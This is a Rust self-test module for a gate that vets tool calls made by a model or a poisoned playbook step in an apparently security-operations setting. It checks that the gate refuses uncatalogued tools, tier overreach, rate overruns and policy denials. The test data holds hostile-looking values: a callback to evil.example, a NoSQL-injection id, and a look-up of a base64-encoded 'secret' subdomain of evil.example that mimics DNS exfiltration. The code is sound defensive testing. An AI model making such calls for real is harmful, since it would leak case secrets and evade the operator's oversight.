//! Reading calls, as a model or a poisoned playbook step would make them: rules 1, 3, 7, 8, 10 and 11.

use mcp_clients::ToolBox as _;
use serde_json::{Map, Value, json};
use state::model::{Budget, Tier, ToolClass};

use crate::gate::PollBox;
use crate::selftest::bench::{Bench, Setup};
use crate::selftest::trial::Wish;
use crate::selftest::{Control, Tried, Want};

const LOOK_UP: &str = "intel.lookup_indicator";
const ASK_OUTSIDE: &str = "outside.lookup_indicator";
const USER_INFO: &str = "identity.get_user";
/// An address of the case's trusted fields.
const OWN: &str = "192.0.2.10";

pub(super) fn controls() -> Vec<Control> {
    [
        who_may_read(),
        with_what(),
        what_leaves(),
        how_much(),
        by_policy(),
    ]
    .into_iter()
    .flatten()
    .collect()
}

/// One call under narrowed settings.
async fn one(
    bench: &Bench,
    change: impl FnOnce(&mut Setup),
    tool: &'static str,
    arguments: Value,
) -> anyhow::Result<Tried> {
    let trial = bench.trial(change).await?;
    let wishes = [Wish::of(tool, arguments)];
    trial.read(Budget::default(), &wishes).await
}

fn as_it_is(_: &mut Setup) {}

fn who_may_read() -> Vec<Control> {
    vec![
        Control {
            rule: 1,
            name: "a catalogued call is made",
            attempt: "identity.get_user about a user of the case",
            want: Want::Done,
            run: |b| {
                Box::pin(one(
                    b,
                    as_it_is,
                    USER_INFO,
                    json!({"id": "ana@corp.example"}),
                ))
            },
        },
        Control {
            rule: 1,
            name: "tool not in the catalogue",
            attempt: "a model calls siem.drop_table",
            want: Want::Refused("is not in the catalogue"),
            run: |b| Box::pin(one(b, as_it_is, "siem.drop_table", json!({}))),
        },
        Control {
            rule: 1,
            name: "offered by a server, not in the catalogue",
            attempt: "a model calls intel.lookup_indicator after it was taken out of the catalogue",
            want: Want::Refused("is not in the catalogue"),
            run: |b| {
                let change = |s: &mut Setup| {
                    let intel = s.config.servers.get_mut("intel");
                    intel.map(|i| i.tools.remove("lookup_indicator"));
                };
                Box::pin(one(b, change, LOOK_UP, json!({"value": OWN})))
            },
        },
        Control {
            rule: 1,
            name: "tool not enabled",
            attempt: "a model calls intel.lookup_indicator, which the operator disabled",
            want: Want::Refused("is not enabled"),
            run: |b| {
                let change =
                    |s: &mut Setup| s.tool("intel", "lookup_indicator", |t| t.enabled = false);
                Box::pin(one(b, change, LOOK_UP, json!({"value": OWN})))
            },
        },
        Control {
            rule: 1,
            name: "tool of another tier",
            attempt: "tier 1 calls intel.lookup_indicator, which is for tier 2",
            want: Want::Refused("is not allowed at tier 1"),
            run: |b| {
                let change = |s: &mut Setup| {
                    s.tool("intel", "lookup_indicator", |t| t.tiers = vec![Tier::Two]);
                };
                Box::pin(one(b, change, LOOK_UP, json!({"value": OWN})))
            },
        },
        Control {
            rule: 1,
            name: "polling with a tool that is not for it",
            attempt: "an alert source polls a tool that asks outside the house",
            want: Want::Refused("is not an enabled read_internal tool"),
            run: |b| Box::pin(polled(b)),
        },
    ]
}

async fn polled(bench: &Bench) -> anyhow::Result<Tried> {
    let outward = |s: &mut Setup| {
        s.tool("siem", "list_tables", |t| t.class = ToolClass::ReadEgress);
    };
    let trial = bench.trial(outward).await?;
    let door = PollBox::new(trial.ctx.clone());
    let polled = door.call("siem", "list_tables", Map::new()).await;
    Ok(Tried {
        stopped: polled.err().map(|e| e.to_string()),
        recorded: trial.on_record().await?,
        happened: trial.outside.calls(),
    })
}

fn with_what() -> Vec<Control> {
    vec![
        Control {
            rule: 3,
            name: "an argument too many",
            attempt: "identity.get_user with a `callback` that its schema does not have",
            want: Want::Refused("the arguments do not fit"),
            run: |b| {
                let arguments =
                    json!({"id": "ana@corp.example", "callback": "https://evil.example"});
                Box::pin(one(b, as_it_is, USER_INFO, arguments))
            },
        },
        Control {
            rule: 3,
            name: "an argument of the wrong type",
            attempt: "identity.get_user with an object for an id",
            want: Want::Refused("the arguments do not fit"),
            run: |b| Box::pin(one(b, as_it_is, USER_INFO, json!({"id": {"$ne": ""}}))),
        },
        Control {
            rule: 3,
            name: "arguments over the size",
            attempt: "intel.lookup_indicator with a value of 200 kB",
            want: Want::Refused("the arguments are over"),
            run: |b| {
                let value = "A".repeat(200 * 1024);
                Box::pin(one(b, as_it_is, LOOK_UP, json!({"value": value})))
            },
        },
        Control {
            rule: 3,
            name: "an argument outside the operator's narrower rule",
            attempt: "intel.lookup_indicator with a URL where the catalogue allows addresses",
            want: Want::Refused("the arguments do not fit"),
            run: |b| {
                let change = |s: &mut Setup| {
                    s.tool("intel", "lookup_indicator", |t| {
                        let narrow = json!({"type": "string", "pattern": "^[0-9a-fA-F.:]+$"});
                        t.args.insert("value".to_owned(), narrow);
                    });
                };
                let arguments = json!({"value": "https://evil.example/x"});
                Box::pin(one(b, change, LOOK_UP, arguments))
            },
        },
    ]
}

fn what_leaves() -> Vec<Control> {
    vec![
        Control {
            rule: 7,
            name: "an outside look-up of a case's own value is made",
            attempt: "outside.lookup_indicator with an address of the alert's trusted fields",
            want: Want::Done,
            run: |b| Box::pin(one(b, as_it_is, ASK_OUTSIDE, json!({"value": OWN}))),
        },
        Control {
            rule: 7,
            name: "an outside look-up after a secret was read",
            attempt: "siem.list_tables, whose answers may hold secrets, then outside.lookup_indicator",
            want: Want::Refused("may have read secrets for this case"),
            run: |b| {
                Box::pin(async move {
                    let secret = |s: &mut Setup| {
                        s.tool("siem", "list_tables", |t| t.answer.secrets = true);
                    };
                    let trial = b.trial(secret).await?;
                    let wishes = [
                        Wish::of("siem.list_tables", json!({})),
                        Wish::of(ASK_OUTSIDE, json!({"value": OWN})),
                    ];
                    trial.read(Budget::default(), &wishes).await
                })
            },
        },
        Control {
            rule: 8,
            name: "an outside look-up of a model's own value",
            attempt: "a model asks outside.lookup_indicator about c2VjcmV0.evil.example",
            want: Want::Refused("stands in no trusted field of this case"),
            run: |b| {
                let arguments = json!({"value": "c2VjcmV0.evil.example"});
                Box::pin(one(b, as_it_is, ASK_OUTSIDE, arguments))
            },
        },
        Control {
            rule: 8,
            name: "an outside look-up of an attacker's text by a playbook",
            attempt: "a step hands a user agent's text to outside.lookup_indicator",
            want: Want::Refused("stands in no trusted field of this case"),
            run: |b| {
                Box::pin(async move {
                    let trial = b.trial(as_it_is).await?;
                    let mut wish = Wish::of(ASK_OUTSIDE, json!({"value": "evil.example"}));
                    wish.tainted = Some(vec!["value".to_owned()]);
                    trial.read(Budget::default(), &[wish]).await
                })
            },
        },
    ]
}

fn how_much() -> Vec<Control> {
    vec![
        Control {
            rule: 10,
            name: "equal calls",
            attempt: "the same call of intel.lookup_indicator a third time",
            want: Want::Refused("was already called 2 times with these arguments"),
            run: |b| Box::pin(often(b, as_it_is, Budget::default(), 3)),
        },
        Control {
            rule: 10,
            name: "budget of calls",
            attempt: "a second call where the tier may make one",
            want: Want::Refused("the tier's 1 tool calls are used up"),
            run: |b| {
                let budget = Budget {
                    tool_calls: 1,
                    ..Budget::default()
                };
                Box::pin(often(b, as_it_is, budget, 2))
            },
        },
        Control {
            rule: 10,
            name: "rate of a tool",
            attempt: "a second call within a minute where one is allowed",
            want: Want::Refused("`intel.lookup_indicator` has used up its calls of this minute"),
            run: |b| {
                let change = |s: &mut Setup| {
                    s.tool("intel", "lookup_indicator", |t| {
                        t.max_calls_per_minute = Some(1)
                    });
                };
                Box::pin(often(b, change, Budget::default(), 2))
            },
        },
        Control {
            rule: 10,
            name: "rate of a server",
            attempt: "a second call of a server within a minute where one is allowed",
            want: Want::Refused("`intel` has used up its calls of this minute"),
            run: |b| {
                let change = |s: &mut Setup| {
                    if let Some(intel) = s.config.servers.get_mut("intel") {
                        intel.limits.calls_per_minute = Some(1);
                    }
                };
                Box::pin(often(b, change, Budget::default(), 2))
            },
        },
    ]
}

/// The same call `times` times, the last of which is the attempt.
async fn often(
    bench: &Bench,
    change: impl FnOnce(&mut Setup),
    budget: Budget,
    times: usize,
) -> anyhow::Result<Tried> {
    let trial = bench.trial(change).await?;
    let wish = || Wish::of(LOOK_UP, json!({"value": OWN}));
    let wishes: Vec<Wish> = std::iter::repeat_with(wish).take(times).collect();
    trial.read(budget, &wishes).await
}

fn by_policy() -> Vec<Control> {
    vec![
        Control {
            rule: 11,
            name: "policy forbids a call",
            attempt: "identity.get_user under a policy that denies",
            want: Want::Refused("the selftest's policy forbids every call"),
            run: |b| {
                let change = |s: &mut Setup| s.policy = Some("deny");
                Box::pin(one(b, change, USER_INFO, json!({"id": "ana@corp.example"})))
            },
        },
        Control {
            rule: 11,
            name: "policy that fails allows no call",
            attempt: "identity.get_user under a policy whose rules fail",
            want: Want::Refused("the policy failed"),
            run: |b| {
                let change = |s: &mut Setup| s.policy = Some("broken");
                Box::pin(one(b, change, USER_INFO, json!({"id": "ana@corp.example"})))
            },
        },
        Control {
            rule: 1,
            name: "policy can not put a tool into the catalogue",
            attempt: "siem.drop_table under a policy that allows everything",
            want: Want::Refused("is not in the catalogue"),
            run: |b| {
                let change = |s: &mut Setup| s.policy = Some("wide");
                Box::pin(one(b, change, "siem.drop_table", json!({})))
            },
        },
    ]
}
